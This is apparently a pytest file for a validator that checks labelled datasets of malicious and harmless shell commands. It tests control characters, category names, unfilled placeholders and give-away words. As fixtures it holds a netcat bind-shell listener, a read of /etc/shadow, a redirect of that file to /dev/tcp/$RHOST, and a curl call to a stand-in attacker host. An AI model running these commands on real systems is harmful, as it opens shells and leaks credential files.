"""Label checks, one rule at a time."""

from collections.abc import Sequence
from typing import Any

import pytest

from aegish_dist.core.sample import Sample, Target
from aegish_dist.datasets.validation import CATEGORIES, Problem, Severity, problems


def malicious(
    command: str = "nc -l 4444", category: str | None = "bind-shell", **rest: Any
) -> Sample:
    return Sample(command, Target.MALICIOUS, category, **rest)


def harmless(command: str = "ls", **rest: Any) -> Sample:
    return Sample(command, Target.HARMLESS, **rest)


def only(samples: Sequence[Sample], **options: Any) -> Problem:
    (problem,) = problems(samples, **options)
    return problem


def test_clean_samples_have_no_problems() -> None:
    """Commands of every category and harmless ones pass, newline and tab included."""
    samples = [malicious(f"a\n\tb {each}", each, cluster="a") for each in CATEGORIES]
    assert problems([*samples, harmless(metadata={"source": "me"})], strict=True) == ()


@pytest.mark.parametrize(
    ("sample", "field", "message"),
    [
        (malicious(" \n"), "command", "must not be empty"),
        (malicious("a\0b"), "command", "contains the control character U+0000"),
        (malicious("a\x1b[31mb"), "command", "contains the control character U+001B"),
        (malicious("a\rb"), "command", "contains the control character U+000D"),
        (harmless("a\ud800b"), "command", "contains the control character U+D800"),
        (harmless("x" * 10_001), "command", "has 10,001 characters, at most 10,000 are allowed"),
        (harmless(cluster="a\x7f"), "cluster", "contains the control character U+007F"),
        (harmless(cluster="c" * 201), "cluster", "has 201 characters, at most 200 are allowed"),
        (harmless(metadata={"k": "\x85"}), "metadata", "contains the control character U+0085"),
        (malicious(category=None), "category", "a malicious command needs one, such as"),
        (malicious(category="a,b"), "category", "'a,b' is no name: use up to 100 letters"),
        (malicious(category="x" * 101), "category", "'" + "x" * 100 + "' is no name"),
        (malicious(category=" a"), "category", "' a' is no name"),
        (malicious(category="a\x1b"), "category", "'a\\x1b' is no name"),
        (harmless(category="shell"), "category", "a harmless command has none; leave it empty"),
    ],
)
def test_errors(sample: Sample, field: str, message: str) -> None:
    """Each broken rule is one error about the right field."""
    problem = only([sample])
    assert (problem.severity, problem.record, problem.field) == (Severity.ERROR, 1, field)
    assert problem.message.startswith(message)


@pytest.mark.parametrize(
    "category", ["sudo", "T1059.004", "privilege escalation", "Führung", "x" * 100, "a/b:c+d_e-f"]
)
def test_other_datasets_may_have_other_categories(category: str) -> None:
    """A name that is none of GTFOBins' functions passes without a word."""
    assert problems([malicious(category=category)], strict=True) == ()


@pytest.mark.parametrize("category", ["File Read", "file_read", "fileread", "SHELL", "downlaod"])
def test_a_misspelt_category_is_a_warning(category: str) -> None:
    """A category that is nearly one of GTFOBins' functions is probably meant to be it."""
    problem = only([malicious(category=category)])
    assert (problem.severity, problem.field) == (Severity.WARNING, "category")
    assert problem.message.startswith(f"{category!a} is nearly '")


def test_a_variable_that_the_command_sets_is_no_placeholder() -> None:
    """Only a variable without a value is left over."""
    assert problems([malicious("LFILE=/etc/shadow\ncat $LFILE")]) == ()
    problem = only([malicious("LFILE=/etc/shadow\ncat $LFILE >/dev/tcp/$RHOST/1")])
    assert problem.message == "placeholder '$RHOST' was never filled in"


def test_longest_allowed_command() -> None:
    """A command of exactly the limit passes."""
    assert problems([harmless("x" * 10_000)]) == ()


@pytest.mark.parametrize(
    ("command", "placeholder"),
    [
        ("cat /path/to/input-file", "/path/to/"),
        ("curl http://attacker.com/x", "attacker.com"),
        ("tee $TF", "$TF"),
        ("wget ${URL}", "${URL}"),
        ("gcore $PID", "$PID"),
        ("docker cp $CONTAINER_ID:x .", "$CONTAINER_ID"),
        ("ssh <user>@10.0.0.1", "<user>"),
    ],
)
def test_placeholders_are_warnings_and_strictly_errors(command: str, placeholder: str) -> None:
    """A placeholder left in a malicious command warns, and stops a bundled set."""
    problem = only([malicious(command)])
    assert problem.severity is Severity.WARNING
    assert problem.message == f"placeholder '{placeholder}' was never filled in"
    assert only([malicious(command)], strict=True).severity is Severity.ERROR


@pytest.mark.parametrize(
    "sample",
    [
        harmless("cp /path/to/a <name>"),
        malicious("echo '<name>x</name>'"),
        malicious("kill $PPID"),
        malicious("cat <<EOF\nx\nEOF"),
        malicious("echo $TFA"),
    ],
)
def test_what_only_looks_like_a_placeholder(sample: Sample) -> None:
    """XML, shell variables, here documents and harmless commands are left alone."""
    assert problems([sample]) == ()


@pytest.mark.parametrize("word", ["evil", "Backdoor", "malware", "payload", "exploit", "hack"])
def test_tell_tale_words(word: str) -> None:
    """A word that gives the label away warns."""
    problem = only([malicious(f"sh /tmp/my_{word}.sh")])
    assert problem.severity is Severity.WARNING
    assert problem.message == f"the word '{word}' gives the label away"


def test_words_that_contain_a_tell_tale_word() -> None:
    """`devil` is not `evil`."""
    assert problems([malicious("devilspie --shackle")]) == ()


def test_duplicate_names_both_lines() -> None:
    """The same command twice is an error even under another label."""
    samples = [malicious("ls"), harmless("pwd"), harmless("ls")]
    problem = only(samples, lines=[2, 5, 9])
    assert (problem.severity, problem.record, problem.field) == (Severity.ERROR, 9, "command")
    assert problem.message == "the same command as in line 2"
